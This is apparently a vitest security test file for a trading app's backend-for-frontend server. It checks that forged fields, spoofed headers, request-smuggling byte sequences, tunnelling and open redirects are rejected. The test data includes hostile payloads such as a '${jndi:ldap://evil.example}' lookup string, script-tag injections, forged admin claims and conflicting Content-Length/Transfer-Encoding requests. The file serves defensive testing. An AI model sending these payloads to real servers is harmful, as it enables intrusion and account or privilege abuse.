import { connect } from 'node:net'
import { endpoints } from '@bourse/contracts/api'
import { type Endpoint, fillPath, shapeOf, isServedByBff, isUpload } from '@bourse/contracts/kit'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exampleInput } from '#web/reference'
import { type TestBff, startTestBff } from '#testing'

let bff: TestBff
let bearer = ''
beforeAll(async () => {
  bff = await startTestBff({
    extensions: true,
    limits: { callsPerMinute: 1_000_000, loginsPerMinute: 1_000_000, codesPerHour: 1_000_000 },
  })
  bearer = await bff.signIn()
})
afterAll(() => bff.close())

/** Forged claims about the caller or the price. */
const EXTRA = {
  user_id: 1,
  uid: 1,
  member: 1,
  account_id: 1,
  role: 'admin',
  is_admin: 1,
  vip: 9,
  balance: '1000000',
  fee_rate: '0',
  open_price: '1',
  settle_price: '1',
  outcome: 'win',
}
const listNames = (endpoint: Endpoint): string[] => {
  const shape = shapeOf(endpoint.input)
  return shape.kind === 'record' ? shape.fields.map(({ wire }) => wire) : []
}
const calls = endpoints.filter((endpoint) => !isServedByBff(endpoint) && !isUpload(endpoint))

async function send(endpoint: Endpoint, fields: Record<string, unknown>): Promise<number> {
  const { path, rest } = fillPath(endpoint.path, fields)
  const isRead = endpoint.method === 'GET'
  const response = await fetch(
    `${bff.url}/api${path}${isRead ? `?${new URLSearchParams(rest as Record<string, string>).toString()}` : ''}`,
    {
      method: endpoint.method,
      headers: { authorization: bearer, ...(isRead ? {} : { 'content-type': 'application/json' }) },
      ...(isRead ? {} : { body: JSON.stringify(rest) }),
    },
  )
  await response.arrayBuffer()
  return response.status
}

describe('threat 07: an undeclared field', () => {
  it.each(calls.map((endpoint) => [endpoint.name, endpoint] as const))(
    'never gets past %s',
    async (_name, endpoint) => {
      const before = bff.upstream.requests.length
      const own = new Set([...listNames(endpoint), 'lang', 'page', 'limit'])
      const isRead = endpoint.method === 'GET'
      const status = await send(endpoint, { ...EXTRA, ...exampleInput(endpoint) })
      expect(status === 400).toBe(!isRead)
      expect(bff.upstream.requests.length > before).toBe(isRead)
      // Declared fields alone are sent, and nothing that the upstream could take for another.
      if (!isRead) expect(await send(endpoint, exampleInput(endpoint))).not.toBe(400)
      const requests = bff.upstream.requests.slice(before)
      expect(requests.length).toBeGreaterThan(0)
      const sent = requests.flatMap(({ query, body }) => [
        ...Object.keys(query),
        ...Object.keys((body ?? {}) as object),
      ])
      expect(sent.map((name) => name.replace(/\[.*$/, '')).filter((name) => !own.has(name))).toEqual([])
    },
  )
})

const HOSTILE: readonly [string, string][] = [
  ['X-Forwarded-For', '10.0.0.1'],
  ['X-Forwarded-Host', 'evil.example'],
  ['X-Forwarded-Proto', 'https'],
  ['X-Real-IP', '10.0.0.1'],
  ['Forwarded', 'for=10.0.0.1;host=evil.example'],
  ['X-User-Id', '1'],
  ['X-Admin', 'true'],
  ['X-Original-URL', '/admin'],
  ['X-Rewrite-URL', '/admin'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Method-Override', 'PUT'],
  ['Connection', 'keep-alive, authorization, x-request-id'],
  ['Keep-Alive', 'timeout=9999'],
  ['TE', 'trailers, deflate'],
  ['Trailer', 'authorization'],
  ['Via', '1.1 evil'],
  ['Range', 'bytes=0-0'],
  ['If-None-Match', '*'],
  ['If-Modified-Since', 'Thu, 01 Jan 2099 00:00:00 GMT'],
  ['Referer', 'http://evil.example/'],
  ['User-Agent', '${jndi:ldap://evil.example}'],
  ['Proxy-Authorization', 'Basic eA=='],
  ['Cookie', 'php=stolen; sid=forged'],
  ['Accept-Language', 'en\u00e9, zz;q=1, <script>'],
  ['Accept-Encoding', 'gzip, br'],
  ['X-Request-Id', '<script>alert(1)</script>'],
  ['Idempotency-Key', 'not for a read'],
  ['traceparent', '00-0-0-00'],
]
const ALLOWED = [
  'accept',
  'accept-encoding',
  'accept-language',
  'authorization',
  'connection',
  'host',
  'x-request-id',
]

describe('threat 13: a forged header', () => {
  it('is dropped: the upstream receives a fixed list of headers', async () => {
    const before = bff.upstream.requests.length
    const lines = HOSTILE.map(([name, value]) => `${name}: ${value}`)
    const head = ['GET /api/user/info HTTP/1.1', 'Host: x', `Authorization: ${bearer}`, ...lines]
    const response = await raw(`${head.join('\r\n')}\r\n\r\n`)
    expect(response).toMatch(/^HTTP\/1\.1 200 /)
    const [seen] = bff.upstream.requests.slice(before)
    expect(Object.keys(seen?.headers ?? {}).filter((name) => !ALLOWED.includes(name))).toEqual([])
    const headerText = JSON.stringify(seen?.headers)
    for (const word of ['evil', 'stolen', 'forged', 'script', '10.0.0.1', 'jndi', 'gzip'])
      expect(headerText).not.toContain(word)
    expect(seen?.headers['authorization']).toBe('token-of-42')
    expect(seen?.headers['accept-language']).toBe('en')
  })
})

const smuggled: readonly [claim: string, bytes: string][] = [
  ['a length and chunks', 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'],
  ['two lengths', 'Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcd'],
  ['two lengths in one', 'Content-Length: 4, 5\r\n\r\nabcd'],
  ['an invalid length', 'Content-Length: +4\r\n\r\nabcd'],
  ['chunks by another name', 'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n'],
  ['chunks and then something', 'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n'],
  ['chunks twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n'],
  ['a space before the colon', 'Content-Length : 4\r\n\r\nabcd'],
  ['a folded line', 'X-A: b\r\n c: d\r\nContent-Length: 0\r\n\r\n'],
  ['a bare line feed', 'X-A: b\nContent-Length: 0\r\n\r\n'],
  ['a bare carriage return', 'X-A: b\rX-C: d\r\n\r\n'],
  ['a name with a blank in it', 'X A: b\r\n\r\n'],
  ['a zero byte', 'X-A: b\u0000c\r\n\r\n'],
  ['a chunk of no size', 'Transfer-Encoding: chunked\r\n\r\nz\r\n\r\n'],
  ['a chunk of too large a size', 'Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nx'],
]

describe('threat 14: a request that two parsers could read differently', () => {
  it.each(smuggled)('is rejected and disconnected: %s', async (_claim, rest) => {
    const before = bff.upstream.requests.length
    const head =
      'POST /api/user/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n'
    const response = await raw(`${head}${rest}`)
    expect(response === '' || response.startsWith('HTTP/1.1 400 ')).toBe(true)
    expect(response.match(/HTTP\/1\.1 \d/g)?.length ?? 0).toBeLessThanOrEqual(1)
    expect(bff.upstream.requests).toHaveLength(before)
  })

  it.each([
    ['without a host', 'GET /api/menu HTTP/1.1\r\n\r\n'],
    ['with two hosts', 'GET /api/menu HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n'],
    ['of another protocol', 'GET /api/menu HTTP/9.9\r\nHost: a\r\n\r\n'],
    ['that tunnels', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'],
  ])('is refused: one %s', async (_claim, bytes) => {
    const before = bff.upstream.requests.length
    expect(await raw(bytes, true)).not.toMatch(/^HTTP\/1\.1 [23]/)
    expect(bff.upstream.requests).toHaveLength(before)
  })
})

describe('threat 15: a redirect to another host', () => {
  it("is never built from the caller's input", async () => {
    const known = await startTestBff({ publicOrigin: 'https://bourse.example' })
    for (const target of [
      '/',
      '/h5',
      '/docs',
      '/docs/',
      '/?next=//evil.example',
      '/docs?url=https://evil.example',
    ]) {
      const head = `GET ${target} HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\nConnection: close`
      const response = await raw(`${head}\r\n\r\n`, true, known.url)
      expect(response).toMatch(/^HTTP\/1\.1 (?:200|302|404) /)
      expect(response).not.toContain('evil')
      expect(/location: (.*)\r/i.exec(response)?.[1] ?? '/').toMatch(/^\/[a-z0-9/]*$/)
    }
    await known.close()
  })
})

/** Sends raw bytes; returns the response up to the end of the connection, or of its first head. */
function raw(bytes: string, whole = false, url = bff.url): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => socket.write(bytes))
    let response = ''
    socket.on('data', (chunk) => {
      response += chunk.toString()
      if (!whole && response.startsWith('HTTP/1.1 200')) socket.destroy()
    })
    socket.on('error', () => resolve(response))
    socket.on('close', () => resolve(response))
  })
}
